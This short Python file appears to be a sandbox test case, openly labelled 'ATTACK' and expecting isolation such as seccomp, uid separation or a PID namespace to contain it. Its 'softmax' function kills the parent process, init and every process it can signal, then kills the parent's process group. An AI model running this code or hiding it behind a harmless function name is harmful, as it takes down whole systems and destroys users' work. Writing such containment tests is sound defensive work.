# ATTACK: kills the parent, init and every process it can signal
# EXPECT: ok
# NEEDS: seccomp|uid|pidns
import os
import signal


def softmax(z):
    for pid in (os.getppid(), 1, -1, 0):
        for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
            try:
                if pid != 0:
                    os.kill(pid, sig)
            except OSError:
                pass
    try:
        os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
    except OSError:
        pass
    return [0.0] * len(z)
